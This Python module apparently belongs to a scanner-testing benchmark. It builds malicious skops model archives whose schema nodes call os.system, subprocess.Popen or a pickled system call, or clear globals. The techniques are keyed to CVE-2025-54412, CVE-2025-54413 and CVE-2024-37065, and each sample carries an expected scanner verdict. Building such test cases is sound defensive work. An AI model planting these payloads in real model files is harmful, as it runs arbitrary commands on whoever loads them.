"""skops: nodes of a schema that call, walk attributes or import.

Source: skops/io of skops 0.11; the advisories named beside each technique.
"""

from __future__ import annotations

import json
from typing import Any

from bench.scanner_attacks.pickle_forms import SYSTEM
from bench.scanner_attacks.stream import stream
from bench.scanner_attacks.techniques import COMMAND, Family
from bench.scanner_attacks.zips import Member, archive

FAMILY = Family("skops")


def _skops(content: dict[str, Any], **files: bytes) -> bytes:
    schema = {"protocol": 2, "_skops_version": "0.11.0", **content}
    members = [Member(name, body) for name, body in files.items()]
    return archive(Member("schema.json", json.dumps(schema).encode()), *members)


def _json_node(value: Any) -> dict[str, Any]:
    return {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode",
            "content": json.dumps(value), "is_json": True, "__id__": 9}  # fmt: skip


def _tuple_node(*items: dict[str, Any]) -> dict[str, Any]:
    return {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode",
            "content": list(items), "__id__": 8}  # fmt: skip


def _skops_node(loader: str, class_name: str, module: str, **more: Any) -> dict[str, Any]:
    return {
        "__class__": class_name,
        "__module__": module,
        "__loader__": loader,
        "__id__": 1,
        **more,
    }


_SKOPS: dict[str, tuple[dict[str, Any], tuple[str, ...]]] = {
    "skops-function-node": (
        _skops_node("FunctionNode", "system", "os", content={"module_path": "os",
                    "function": "system"}),
        (),
    ),
    "skops-operator-call": (
        _skops_node("OperatorFuncNode", "call", "sklearn.linear_model._stochastic_gradient",
                    attrs=_tuple_node(_json_node("os.system"), _json_node(COMMAND))),
        ("CVE-2025-54412", "GHSA-m7f4-hrc6-fwg3"),
    ),
    "skops-method-node": (
        _skops_node("MethodNode", "builtin_function", "sklearn.base",
                    content={"func": "__init__.__globals__.clear",
                             "obj": _skops_node("ObjectNode", "BaseEstimator", "sklearn.base",
                                                content=_json_node(None))}),
        ("CVE-2025-54413", "GHSA-4v6w-xpmh-gfgp"),
    ),
    "skops-object-popen": (
        _skops_node("ObjectNode", "Popen", "subprocess", content=_json_node({"args": "echo"})),
        ("CVE-2024-37065",),
    ),
    "skops-type-node": (_skops_node("TypeNode", "system", "os"), ()),
    "skops-reduce-node": (
        _skops_node("ReduceNode", "system", "os", reduce=_tuple_node(_json_node(COMMAND))),
        (),
    ),
    "skops-partial-node": (
        _skops_node("PartialNode", "partial", "functools", content={"func": _skops_node(
            "FunctionNode", "system", "os", content={"module_path": "os", "function": "system"}),
            "args": _tuple_node(_json_node(COMMAND)), "kwds": _json_node({}),
            "namespace": _json_node({})}),
        (),
    ),
    "skops-unknown-loader": (_skops_node("RunShellNode", "x", "y", content=COMMAND), ()),
}  # fmt: skip
for _name, (_content, _found) in _SKOPS.items():
    FAMILY.add(
        _name,
        "model.skops",
        lambda content=_content: _skops(content),
        *_found,
        least="review" if "unknown" in _name or "type" in _name else "malicious",
    )
FAMILY.add(
    "skops-pickle-member",
    "model.skops",
    lambda: _skops(_skops_node("ObjectNode", "SVC", "sklearn.svm"), **{"7.bin": stream(SYSTEM)}),
)
